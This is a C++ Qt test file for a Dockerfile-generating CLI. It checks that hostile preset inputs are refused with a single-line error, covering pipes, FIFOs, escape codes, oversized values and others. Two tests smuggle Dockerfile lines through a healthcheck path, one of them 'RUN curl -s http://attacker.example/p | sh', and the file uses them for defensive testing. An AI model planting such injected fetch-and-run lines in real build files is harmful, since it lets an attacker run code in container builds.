// Hostile presets given to `stagecraft generate --preset` (issue #9): a shared preset can
// neither inject a Dockerfile line, nor hang or exhaust the reader, nor crash the checks;
// each is refused with one printable line on stderr, exit 2 and nothing on stdout.
#include "clirun.h"

#include <nlohmann/json.hpp>

#include <QTemporaryDir>
#include <QTest>

#include <chrono>
#include <fcntl.h>
#include <fstream>
#include <functional>
#include <future>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

using namespace stagecraft;
using namespace stagecraft::testing;

class TestHostilePreset : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;

    QString write(const char *name, const std::string &content) const
    {
        const QString path = m_dir.filePath(QLatin1String(name));
        std::ofstream(path.toStdString(), std::ios::binary) << content;
        return path;
    }

    // Runs the CLI in a thread; `release` unblocks a reader stuck on a pipe if the run hangs.
    static CliRun runWithin(const QStringList &args, std::chrono::seconds limit, const std::function<void()> &release = {})
    {
        std::future<CliRun> run = std::async(std::launch::async, [args] { return runCliCapturing(args); });
        if (run.wait_for(limit) != std::future_status::ready) {
            if (release)
                release();
            std::thread([held = std::move(run)]() mutable { held.wait(); }).detach();
            return {};
        }
        return run.get();
    }

    static void verifyRefused(const CliRun &run, const QString &expected)
    {
        QCOMPARE(run.code, 2);
        QCOMPARE(run.out, QString());
        QCOMPARE(run.err.count(QLatin1Char('\n')), 1);
        QVERIFY2(run.err.contains(expected), qPrintable(run.err));
        QVERIFY2(!run.err.contains(QLatin1Char('\x1b')) && !run.err.contains(QLatin1Char('\r')), qPrintable(run.err));
    }

private Q_SLOTS:
    void theIssuesInjectionPresetIsRefused()
    {
        const QString preset = write("inject.json", "{\"format\":1,\"stack\":\"node\",\"startCommand\":\"node '${healthcheckPath}'\",\"healthcheck\":false,"
                                                  "\"healthcheckPath\":\"x\\\"]\\nRUN curl -s http://attacker.example/p | sh\\nCMD [\\\"node\\\", \\\"dist/index.js\"}");
        const CliRun run = runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), preset});
        verifyRefused(run, QStringLiteral("healthcheck path"));
        QVERIFY(!run.out.contains(QStringLiteral("RUN curl")));
    }

    void theSameInjectionThroughFlagsIsRefused()
    {
        const CliRun run = runCliCapturing({QStringLiteral("generate"), QStringLiteral("--stack"), QStringLiteral("node"),
                                            QStringLiteral("--start-command"), QStringLiteral("node '${healthcheckPath}'"),
                                            QStringLiteral("--healthcheck-path"), QStringLiteral("x\"]\nRUN id\nCMD [\"x")});
        verifyRefused(run, QStringLiteral("healthcheck path"));
    }

    // Exec form is a JSON array: bytes that are not UTF-8 cannot be written there, and once
    // made the program abort (found by fuzz_startcommand).
    void aStartCommandThatIsNotUtf8IsRefused()
    {
        const CliRun run = runCliCapturing({QStringLiteral("generate"), QStringLiteral("--stack"), QStringLiteral("go"),
                                            QStringLiteral("--start-command"), QString::fromLatin1("./app \xff")});
        // QString holds U+00FF, which is valid: feed the raw byte through a preset instead.
        QCOMPARE(run.code, 0);
        const QString preset = write("latin1.json", "{\"format\":1,\"stack\":\"go\",\"startCommand\":\"./app \xff\"}");
        verifyRefused(runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), preset}), QStringLiteral("preset"));
        const QString inJson = write("escaped.json", "{\"format\":1,\"stack\":\"go\",\"startCommand\":\"./app \\u0085x\"}");
        verifyRefused(runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), inJson}), QStringLiteral("start command"));
    }

    // A heredoc opener in a RUN line would swallow the template's next instructions (USER).
    void aHeredocOpenerInAnOptionIsRefused()
    {
        verifyRefused(runCliCapturing({QStringLiteral("generate"), QStringLiteral("--stack"), QStringLiteral("go"),
                                       QStringLiteral("--option"), QStringLiteral("mainPackage=./cmd<<EOF")}),
                      QStringLiteral("heredoc"));
    }

    // A number too large for a double is out_of_range in nlohmann, not a parse error; it
    // used to abort the program (found by fuzz_preset).
    void aNumberOutOfRangeIsRefused()
    {
        const QString preset = write("huge-number.json", "{\"format\":1,\"stack\":\"go\",\"port\":33333300E6923}");
        verifyRefused(runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), preset}),
                      QStringLiteral("not valid JSON (a number out of range)"));
    }

    void aFifoIsRefusedWithoutBlocking()
    {
        const QString fifo = m_dir.filePath(QStringLiteral("preset.fifo"));
        QCOMPARE(::mkfifo(fifo.toStdString().c_str(), 0600), 0);
        const CliRun run = runWithin({QStringLiteral("generate"), QStringLiteral("--preset"), fifo}, std::chrono::seconds(10), [fifo] {
            ::close(::open(fifo.toStdString().c_str(), O_WRONLY | O_NONBLOCK));
        });
        verifyRefused(run, QStringLiteral("not a regular file"));
    }

    void aPipeIsRefusedWithoutBlocking()
    {
        int ends[2];
        QCOMPARE(::pipe(ends), 0);
        const QString path = QStringLiteral("/proc/self/fd/%1").arg(ends[0]);
        const CliRun run = runWithin({QStringLiteral("generate"), QStringLiteral("--preset"), path}, std::chrono::seconds(10),
                                     [&] { ::close(ends[1]); ends[1] = -1; });
        if (ends[1] >= 0)
            ::close(ends[1]);
        ::close(ends[0]);
        verifyRefused(run, QStringLiteral("not a regular file"));
    }

    void devZeroIsRefused()
    {
        const CliRun run = runWithin({QStringLiteral("generate"), QStringLiteral("--preset"), QStringLiteral("/dev/zero")}, std::chrono::seconds(10));
        verifyRefused(run, QStringLiteral("/dev/zero: cannot read the preset: not a regular file"));
    }

    void typeErrorsAreOneLine_data()
    {
        QTest::addColumn<QString>("preset");
        QTest::addColumn<QString>("expected");
        QTest::addRow("stack is a number") << "{\"stack\": 5}" << "names its stack";
        QTest::addRow("option is a number") << "{\"stack\": \"node\", \"options\": {\"outputDir\": 5}}" << "option 'outputDir' must be a string";
        QTest::addRow("huge uid") << "{\"stack\": \"node\", \"uid\": 18446744073709551615}" << "'uid' must be a whole number";
        QTest::addRow("labels a list") << "{\"stack\": \"node\", \"labels\": [1]}" << "'labels' must be an object";
        QTest::addRow("not an object") << "[1, 2]" << "names its stack";
    }

    void typeErrorsAreOneLine()
    {
        QFETCH(QString, preset);
        QFETCH(QString, expected);
        const QString path = write("typed.json", preset.toStdString());
        verifyRefused(runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), path}), expected);
    }

    void quotedValuesArePrintable_data()
    {
        QTest::addColumn<QString>("preset");
        QTest::addColumn<QString>("expected");
        QTest::addRow("stack") << "{\"stack\": \"no\\u001b[2Jde\"}" << "unknown stack 'no\\x1b[2Jde'";
        QTest::addRow("package manager") << "{\"stack\": \"node\", \"packageManager\": \"n\\rpm\"}" << "'n\\rpm'";
        QTest::addRow("unknown key") << "{\"stack\": \"node\", \"x\\u001b[31m\": 1}" << "unknown key 'x\\x1b[31m'";
        QTest::addRow("option id") << "{\"stack\": \"node\", \"options\": {\"o\\nut\": \"a\"}}" << "'o\\nut'";
    }

    void quotedValuesArePrintable()
    {
        QFETCH(QString, preset);
        QFETCH(QString, expected);
        const QString path = write("escapes.json", preset.toStdString());
        verifyRefused(runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), path}), expected);
    }

    void aHugeValueIsRefusedWithoutCrashing_data()
    {
        QTest::addColumn<QString>("key");
        QTest::addRow("outputDir") << "outputDir";
        QTest::addRow("healthcheckPath") << "healthcheckPath";
    }

    void aHugeValueIsRefusedWithoutCrashing()
    {
        QFETCH(QString, key);
        nlohmann::json preset{{"format", 1}, {"stack", "node"}, {"healthcheck", true}};
        const std::string huge(900 * 1024, 'a');
        if (key == QStringLiteral("outputDir"))
            preset["options"] = {{"outputDir", huge}};
        else
            preset["healthcheckPath"] = "/" + huge;
        const QString path = write("huge.json", preset.dump());
        const CliRun run = runCliCapturing({QStringLiteral("generate"), QStringLiteral("--preset"), path});
        verifyRefused(run, QStringLiteral("longer than"));
        QVERIFY(run.err.size() < 400);
    }
};

QTEST_GUILESS_MAIN(TestHostilePreset)
#include "tst_hostilepreset.moc"
